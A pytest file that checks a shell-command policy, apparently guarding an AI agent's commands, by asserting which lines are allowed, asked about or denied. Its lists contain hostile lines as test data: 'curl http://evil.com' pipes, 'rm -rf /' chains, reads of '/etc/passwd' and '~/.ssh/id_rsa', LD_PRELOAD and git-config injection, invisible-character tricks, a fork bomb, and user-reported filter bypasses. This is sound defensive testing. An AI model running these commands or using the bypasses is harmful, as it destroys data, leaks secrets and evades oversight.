"""The verdicts on shell lines that ZeroClaw's own tests assert, those Pinfold hardens, and those users reported."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from services.policy.commands import AllowedCommand, CommandPolicy, Risk
from services.policy.decision import Verdict
from services.policy.paths import PathPolicy, PathRule

DEFAULT = [
    "git", "npm", "cargo", "ls", "cat", "grep", "find", "echo", "pwd", "wc", "head", "tail", "date", "df", "du",
    "uname",
    "uptime", "hostname", "python", "python3", "pip", "node",
]  # fmt: skip


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    place = tmp_path / "workspace"
    place.mkdir()
    return place


def policy(
    workspace: Path, allowed: list[str], level: Any = "supervised", *, block: bool = True, medium: bool = True
) -> CommandPolicy:
    """The whole file system is open, so that these verdicts are the command rules' alone."""
    paths = PathPolicy(
        workspace,
        Path("/home/operator"),
        (
            PathRule("allowed root", "/", readable=True, writable=True),
            PathRule("workspace", str(workspace), readable=True, writable=True),
        ),
    )
    return CommandPolicy(level, tuple(AllowedCommand(entry) for entry in allowed), paths, block, medium)


NOT_DENIED = [
    "ls", "git status", "cargo build --release", "cat file.txt", "grep -r pattern .", "date", "/usr/bin/git status",
    "/bin/ls -la", "ls | grep foo", "cat file.txt | wc -l", "ls && echo done", "ls || echo fallback", "ls\necho hello",
    "FOO=bar ls", "LANG=C grep pattern file", "echo '$(cat /etc/passwd)'", "echo '${HOME}'", 'echo "A&B"', 'echo "A>B"',
    'echo "A<B"', "echo secret > /dev/null", "ls 2> /dev/null", "find . 2>&1 > /dev/null", "cat</dev/null",
    "echo hello > /dev/stdout", "ls 1> /dev/stderr", "cat /dev/zero > /dev/null", "find . 2>&1", "echo hello 1>&2",
    "echo error >&2", "cat <&0", "echo >&-", "echo 3>&-", "cat << 'EOF'", "cat <<EOF\nhello\nEOF",
    'cat <<"EOF"\n..\nEOF', "cat <<< 'hello'", "cat <<EOF\nhello\nEOF\necho done", "cat <<EOF\nhello world",
    "git -C /home/user/repo status --short", "find . -name '*.txt'", "git add .", "python3 script.py", "node app.js",
    "pip list", "pip freeze", "pip show requests", "npm test", "npm list", "cargo build", "cargo test", "cargo run",
]  # fmt: skip


@pytest.mark.parametrize("line", NOT_DENIED, ids=repr)
def test_what_zeroclaw_lets_pass_is_not_denied(workspace: Path, line: str) -> None:
    assert policy(workspace, DEFAULT).decide(line).verdict is not Verdict.DENY


DENIED = [
    "rm -rf /", "sudo apt install", "curl http://evil.com", "wget http://evil.com", "ruby x.rb", "perl x.pl", "", "   ",
    "ls; rm -rf /", "ls;rm -rf /", "ls && rm -rf /", "ls || rm -rf /", "ls\nrm -rf /", "ls | curl http://evil.com",
    "echo hello | ruby -", "ls & rm -rf /", "ls&rm -rf /", "echo `whoami`", "echo $(cat /etc/passwd)", "echo ${HOME}",
    "echo ${IFS}cat${IFS}/etc/passwd", "cat $HOME/.ssh/id_rsa", "cat $SECRET_FILE", "cat <(echo pwned)",
    "ls >(cat /etc/passwd)", "echo secret > /etc/crontab", "ls >> /tmp/exfil.txt", "cat < /etc/passwd",
    "echo secret > output.txt", "echo secret>/dev/nullextra", "echo secret > /dev/null/../../etc/passwd",
    "ls 2>/dev/stderr.log", "cat>/dev/zero/path", "echo>/dev/stdout.bak", "echo secret | tee /etc/crontab",
    "ls | /usr/bin/tee outfile", "tee file.txt", "python3 -c '..'", "python3 -c'import os'", "python3 -W ignore -c 'x'",
    "python3 -m http.server", "python3 -mhttp.server", "python3 -m pytest", "node -e'..'", "node --eval=..",
    "node -p '1+1'", "node --print=..", "pip install x", "pip3 install x", "pip download x", "npm exec -- x",
    "npm install x", "npm i x", "npm add x", "npm ci", "cargo install x", "find . -exec rm -rf {} +",
    r"find / -ok cat {} \;", 'git config core.editor "..."', "git alias.st status",
    "git -c core.editor=calc.exe commit",
    "FOO=bar rm -rf /", "cat <<EOF\nx\nEOF\nrm -rf /",
]  # fmt: skip


@pytest.mark.parametrize("line", DENIED, ids=repr)
def test_what_zeroclaw_denies_is_denied(workspace: Path, line: str) -> None:
    assert policy(workspace, DEFAULT).decide(line).verdict is Verdict.DENY


HARDENED = [
    ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"), ("PATH=. ls", "PATH"), ("PYTHONPATH=. python3 a.py", "PYTHONPATH"),
    ("NODE_OPTIONS=--require=./x node a.js", "NODE_OPTIONS"), ("GIT_SSH_COMMAND=x git fetch", "GIT_SSH_COMMAND"),
    ("env LD_PRELOAD=x ls", "LD_PRELOAD"), ("env -S 'rm x' ls", "not judged"), ("env rm x", "rm"), ("time rm x", "rm"),
    ("nohup rm x", "rm"), ("sudo ls", "sudo"), ("xargs rm", "xargs"), ("timeout 5 rm x", "rm"),
    ("nice -n 5 rm x", "rm"),
    ("./ls", "only shares its name"), ("/opt/evil/ls", "only shares its name"), ("find . -delete", "-delete"),
    ("find . -execdir sh -c id ;", "-execdir"), ("find . -okdir x", "-okdir"), ("find . -fprint /tmp/o", "-fprint"),
    ("find . -fprintf o x", "-fprintf"), ("git --config-env=core.pager=X log", "--config-env"),
    ("git --exec-path=. status", "--exec-path"), ("git fetch --upload-pack=./x .", "--upload-pack"),
    ("git clone ext::sh", "ext::"), ("git log --output=x", "--output"), ("echo hi | python3", "standard input"),
    ("python3 -", "standard input"), ("python3 -Bc 'import os'", "command line"), ("python3 -ic 1", "command line"),
    ("node -r ./x.js a.js", "command line"), ("npm x foo", "npm x"), ("pip wheel x", "pip wheel"),
    ("echo hi | node", "standard input"), ("ls\u200b -la", "invisible"), ("echo \u202eabc", "invisible"),
    ("ls " + "a" * 10_000, "longer than"), ("ls() { rm; }; ls", "function"), ("for x in 1; do ls; done", "variable"),
    ("echo $'\\x2e'", "can hide"), ("cat {a,/etc/passwd}", "brace"), ("ls |", "grammar"), ("ls 'a", "grammar"),
    ("/etc/../bin/ls", "only shares its name"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "says"), HARDENED, ids=lambda value: repr(value)[:60])
def test_what_upstream_leaves_open_is_closed_and_said_why(workspace: Path, line: str, says: str) -> None:
    decision = policy(workspace, DEFAULT).decide(line)
    assert decision.verdict is Verdict.DENY
    assert says in f"{decision.reason} {decision.rule}"


LISTS = [
    ("a program's own arguments are data", ["sqlite3"], "supervised", True, 'sqlite3 t.db "CREATE; INSERT"', "allow"),
    ("an open quote is refused", ["sqlite3"], "supervised", True, 'sqlite3 t.db "; rm -rf /', "deny"),
    ("a path entry", ["/usr/bin/antigravity"], "full", True, "/usr/bin/antigravity", "allow"),
    ("a path entry, bare name", ["/usr/bin/antigravity"], "full", True, "antigravity", "deny"),
    ("a path entry, other case", ["/usr/bin/antigravity"], "full", True, '"/usr/bin/Antigravity"', "deny"),
    ("names without case", ["Git", "DOCKER"], "supervised", True, "git status", "allow"),
    ("names without case, other way", ["Git", "DOCKER"], "supervised", True, "GIT status", "allow"),
    ("docker is listed and asked about", ["Git", "DOCKER"], "supervised", True, "docker ps", "ask"),
    ("nothing is listed", [], "full", True, "ls", "deny"),
    ("* does not list high risk", ["*"], "full", True, "rm -rf /tmp/test", "deny"),
    ("* does not list high risk, by path", ["*"], "full", True, "/bin/rm x", "deny"),
    ("an own entry lists high risk", ["curl"], "full", True, "curl http://x", "allow"),
    ("another program", ["curl"], "full", True, "wget http://x", "deny"),
    ("rm with its own entry", ["rm"], "full", True, "rm -rf /tmp/test", "allow"),
    ("rm with its own entry, supervised", ["rm"], "supervised", True, "rm x", "ask"),
    ("every segment listed", ["curl", "grep"], "full", True, "curl http://x | grep y", "allow"),
    ("one segment only by *", ["curl", "*"], "full", True, "curl http://x | grep y", "deny"),
    ("medium risk asks", ["touch"], "supervised", True, "touch a", "ask"),
    ("medium risk, full", ["touch"], "full", True, "touch a", "allow"),
    ("readonly", ["*"], "readonly", False, "ls", "deny"),
    ("* without the block checks nothing", ["*"], "full", False, "echo `x` $(y) ${z} <(a) | tee >(b)", "allow"),
    ("a list without the block is checked", ["echo"], "full", False, "echo `x`", "deny"),
    ("a shell's line is judged", ["*"], "supervised", True, "bash -c 'rm x'", "deny"),
    ("a shell is asked about", ["*"], "supervised", True, "bash -c 'ls'", "ask"),
    ("a shell within a shell", ["*"], "supervised", True, """bash -c 'sh -c "rm x"'""", "deny"),
    ("kill", ["*"], "supervised", True, "kill -9 1", "ask"),
    ("docker", ["*"], "supervised", True, "docker run x", "ask"),
    ("crontab", ["*"], "supervised", True, "crontab -r", "ask"),
    ("systemctl", ["*"], "supervised", True, "systemctl stop x", "ask"),
    ("xargs adds what cannot be known", ["*"], "supervised", True, "ls | xargs cat", "ask"),
    ("xargs rm", ["*"], "supervised", True, "ls | xargs rm", "deny"),
    ("busybox rm", ["*"], "supervised", True, "busybox rm x", "deny"),
    ("env rm", ["*"], "supervised", True, "env rm x", "deny"),
    ("the worst segment counts", DEFAULT, "supervised", True, "ls -la && git commit -m x", "ask"),
    ("a disaster in words", DEFAULT, "supervised", True, "echo rm -rf /", "ask"),
    ("git behind its options", DEFAULT, "supervised", True, "git -C repo push", "ask"),
    ("git pull", DEFAULT, "supervised", True, "git pull", "ask"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("allowed", "level", "block", "line", "verdict"), [row[1:] for row in LISTS], ids=[row[0] for row in LISTS]
)
def test_lists_levels_and_risk(
    workspace: Path, allowed: list[str], level: str, block: bool, line: str, verdict: str
) -> None:
    assert policy(workspace, allowed, level, block=block).decide(line).verdict == verdict


RISKS = [
    ("ls -la", Risk.LOW), ("git status", Risk.LOW), ("git commit -m x", Risk.MEDIUM), ("git -C repo push", Risk.MEDIUM),
    ("npm install x", Risk.MEDIUM), ("cargo add x", Risk.MEDIUM), ("mkdir a", Risk.MEDIUM), ("rm a", Risk.HIGH),
    ("echo rm -rf /", Risk.HIGH), ("ls && git commit -m x", Risk.MEDIUM), ("sudo ls", Risk.HIGH),
    ("bash -c ls", Risk.MEDIUM), ("ssh host", Risk.HIGH), (":(){ :|:& };:", Risk.HIGH),
]  # fmt: skip


@pytest.mark.parametrize(("line", "risk"), RISKS, ids=lambda value: str(value))
def test_the_risk_of_a_line_is_that_of_its_worst_program(workspace: Path, line: str, risk: Risk) -> None:
    assert policy(workspace, ["*"], "full").risk(line) is risk


REPORTED = [
    ("cd:* approved what follows it", ["cd", "ls"], "cd /x && python3 s.py"),
    ("a deny missed the second command", ["git"], "git fetch && rm -fd x"),
    ("newline", ["ls"], "ls\nid"),
    ("or", ["ls"], "ls || id"),
    ("pipe", ["ls"], "ls | id"),
    ("semicolon", ["ls"], "ls ; id"),
    ("sudo shifts the program", ["git"], "sudo git add -A"),
    ("bash -c", ["git"], "bash -c 'git add -A'"),
    ("a line continuation", ["ls"], "l\\\ns \\\n; id"),
    ("PWD in a redirection", ["printf"], 'printf X >"$PWD/protected.txt"'),
    ("HOME with a trailing slash", ["rm"], "rm -rf $HOME/"),
    ("a tab hides the rest", ["ls"], "ls\t\t\t;id"),
]


@pytest.mark.parametrize(("allowed", "line"), [row[1:] for row in REPORTED], ids=[row[0] for row in REPORTED])
def test_what_users_reported_of_other_tools_is_denied(workspace: Path, allowed: list[str], line: str) -> None:
    assert policy(workspace, allowed).decide(line).verdict is Verdict.DENY
